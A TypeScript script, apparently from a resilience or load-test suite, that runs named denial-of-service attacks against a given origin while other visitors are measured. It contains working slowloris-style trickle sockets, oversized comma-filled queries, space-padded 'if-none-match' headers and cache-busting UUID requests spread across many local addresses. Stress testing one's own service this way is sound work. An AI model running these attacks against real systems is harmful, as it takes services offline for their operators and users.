/**
 * Runs the attacks of the siege in a process of its own, so that their work does not delay the measured visitors.
 * Arguments: the origin and the names of the attacks. It attacks until it is killed.
 */
import { randomUUID } from 'node:crypto';
import http from 'node:http';
import net from 'node:net';
import os from 'node:os';
import { addressOf } from './addresses';

const [origin = '', ...chosen] = process.argv.slice(2);
const { hostname, port } = new URL(origin);

/** Repeats a request on one connection for ever; after a refusal it waits a little, as a client would. */
function repeat(client: number, next: () => { path: string; headers?: Record<string, string> }): void {
  const agent = new http.Agent({ keepAlive: true, maxSockets: 1, localAddress: addressOf(client) });
  const again = (pause: number) => setTimeout(send, pause);
  function send(): void {
    const request = http.get({ hostname, port, agent, ...next() }, (response) => {
      response.resume();
      response.on('close', () => again(0));
    });
    request.on('error', () => again(50));
  }
  send();
}

function connections(
  count: number,
  first: number,
  next: () => { path: string; headers?: Record<string, string> },
) {
  for (let index = 0; index < count; index += 1) repeat(first + index, next);
}

const TRICKLE_MS = 5_000;
/** Sockets opened per second. */
const OPENING_RATE = 400;
const SLOW_SOCKETS = 4_000;

/** Sockets that announce a body and send one byte of it every five seconds; closed ones are opened again. */
function trickle(): void {
  const open = new Set<net.Socket>();
  let opened = 0;
  setInterval(() => {
    for (let count = OPENING_RATE / 10; count > 0 && open.size < SLOW_SOCKETS; count -= 1) {
      const socket = net.connect({
        host: hostname,
        port: Number(port),
        localAddress: addressOf((opened += 1)),
      });
      open.add(socket);
      socket.on('error', () => undefined);
      socket.on('close', () => open.delete(socket));
      socket.resume();
      socket.write(
        `POST /content/collections/post/items/search HTTP/1.1\r\nHost: ${hostname}\r\n` +
          'Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{',
      );
    }
  }, 100);
  setInterval(() => {
    for (const socket of open) socket.write(' ');
  }, TRICKLE_MS);
}

const commas = ','.repeat(15_500);
const spaces = `"a"${' '.repeat(15_000)}"b"`;
const CACHED = [
  '/ja',
  '/content/collections/post/items?locale=ja_JP',
  '/content/openapi.json',
  '/favicon.svg',
];

/** Attacks by name. No two share a client address. */
const ATTACKS: Record<string, () => void> = {
  /** One request with very many query values. */
  values: () => connections(2, 0, () => ({ path: `/content/collections/post/items?_q=title_in:${commas}` })),
  /** A header that is slow to match. */
  tags: () => {
    let turn = 0;
    connections(4, 10, () => ({
      path: CACHED[(turn += 1) % CACHED.length] ?? '/ja',
      headers: { 'if-none-match': spaces },
    }));
  },
  /** Pages that are in no cache. */
  busting: () => {
    connections(50, 20, () => ({ path: `/ja/search?text=${randomUUID()}` }));
    connections(50, 70, () => ({ path: `/ja?x=${randomUUID()}` }));
    connections(50, 120, () => ({ path: `/ja/${randomUUID()}` }));
  },
  /** Requests that never end. */
  trickle,
};

// Real attackers use their own machines, not the CPU of the server.
os.setPriority(19);
for (const name of chosen) ATTACKS[name]?.();
